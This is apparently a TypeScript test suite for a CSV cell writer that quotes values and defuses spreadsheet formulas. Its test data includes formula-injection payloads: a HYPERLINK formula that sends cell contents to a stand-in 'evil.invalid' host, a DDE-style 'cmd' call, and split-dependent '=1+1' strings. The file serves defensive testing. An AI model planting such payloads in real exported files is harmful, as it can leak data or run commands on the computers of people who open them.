import fc from 'fast-check'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { guardFormula } from './guard-formula.ts'
import { writeCell } from './write-cell.ts'

test.each([
  ['', ''],
  ['Hof', 'Hof'],
  ['zwei Wörter', 'zwei Wörter'],
  ['a;b', '"a;b"'],
  ['a,b', '"a,b"'],
  ['a\tb', '"a\tb"'],
  ['a\r\nb', '"a\r\nb"'],
  ['"Hof"', '"""Hof"""'],
  ['=1;2', '"\'=1;2"'],
])('%j is written as %j', (text, cell) => {
  expect(writeCell(text)).toBe(cell)
})

const cell = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom(...'=@+-\t\r\n";,\'ä5 .') }),
)

test('any table is read back unchanged, except for the apostrophes', () => {
  const tables = fc
    .integer({ min: 2, max: 6 })
    .chain((width) =>
      fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 8 }),
    )
  fc.assert(
    fc.property(tables, fc.constantFrom(';', ','), (table, delimiter) => {
      const written = table.map((row) => row.map(writeCell).join(delimiter)).join('\r\n')
      const read = Papa.parse<string[]>(written, { delimiter, newline: '\r\n' })
      expect(read.errors).toEqual([])
      expect(read.data).toEqual(table.map((row) => row.map(guardFormula)))
    }),
    { numRuns: 500 },
  )
})

// A spreadsheet with another separator, or other quotation marks, starts cells where we did not.
const readings = [',', ';', '\t', '|', ' '].flatMap((separator) =>
  ['"', "'", null].map((quote) => ({ separator, quote })),
)

test.each([
  ['b,=HYPERLINK("https://evil.invalid/"&A1)'],
  ['shoe;=1+1;tail'],
  ["shoe,'=1+1',tail"],
  ["='x'"],
  ["'=1+1'"],
  ['"=1+1"'],
  ['a,"=1+1"'],
  ["a|@SUM(1)*cmd|'/C calc'!A0"],
  ['a\t-1+1'],
  ['a =1+1'],
  ["a '=1+1' b"],
  ['a,"x\n=1+1,"b'],
])('%j holds no formula, wherever it is split', (text) => {
  for (const reading of readings) expect(formulasIn([['x', text, 'y']], ';', reading)).toEqual([])
})

test('no table contains a formula, wherever its lines are split', () => {
  const text = fc.string({ unit: fc.constantFrom(...'===@+-\t\r\n";,|\'ä5 .(a') })
  const tables = fc.array(fc.tuple(text, text, text), { minLength: 1, maxLength: 4 })
  fc.assert(
    fc.property(tables, fc.constantFrom(';', ','), (table, delimiter) => {
      for (const reading of readings) expect(formulasIn(table, delimiter, reading)).toEqual([])
    }),
    { numRuns: 2_000 },
  )
})

interface Reading {
  separator: string
  quote: string | null
}

function formulasIn(table: string[][], delimiter: string, reading: Reading): string[] {
  const written = table.map((row) => `${row.map(writeCell).join(delimiter)}\r\n`).join('')
  return splitAnew(written, reading).filter((each) => isFormula(each, delimiter, reading))
}

/** As LibreOffice does: blanks may precede a quotation mark, and one without a successor ends the cell. */
function splitAnew(written: string, { separator, quote }: Reading): string[] {
  const cells: string[] = []
  const isEnd = (at: number) => at >= written.length || `${separator}\r\n`.includes(written.charAt(at))
  for (let at = 0; at < written.length; at += 1) {
    let begin = at
    while (written[begin] === ' ' && separator !== ' ') begin += 1
    let end = begin
    if (quote !== null && written[begin] === quote) {
      end += 1
      while (end < written.length && !(written[end] === quote && isEnd(end + 1)))
        end += written[end] === quote && written[end + 1] === quote ? 2 : 1
      if (end < written.length) {
        cells.push(written.slice(begin + 1, end).replaceAll(quote + quote, quote))
        at = end + 1
        continue
      }
      end = begin
    }
    while (!isEnd(end)) end += 1
    cells.push(written.slice(begin, end))
    at = end
  }
  return cells
}

function isFormula(cell: string, delimiter: string, { separator }: Reading): boolean {
  const seen = cell.replace(/^[\s\p{Cf}"]+/u, '')
  if (seen.startsWith('=')) return separator !== ' ' || /^=[^\s=>]/.test(seen)
  // Guarding these would change too many ordinary texts.
  if (separator === ' ' || !/^[+\-@]/.test(seen)) return false
  // No formula continues after a quotation mark that ends a cell of ours.
  const own = seen
    .split(/["'\r\n]/, 1)[0]!
    .split(delimiter, 1)[0]!
    .trimEnd()
  const isNumber = /^[+-][.,]?\d[\p{L}\d .,%°€]*$/u.test(own)
  const callsNothing = /^([+-]\s|[+\-@]\p{L})[^(|!]*$/u.test(own)
  return !isNumber && !callsNothing && !/^[+-][\s).]*$/.test(own)
}
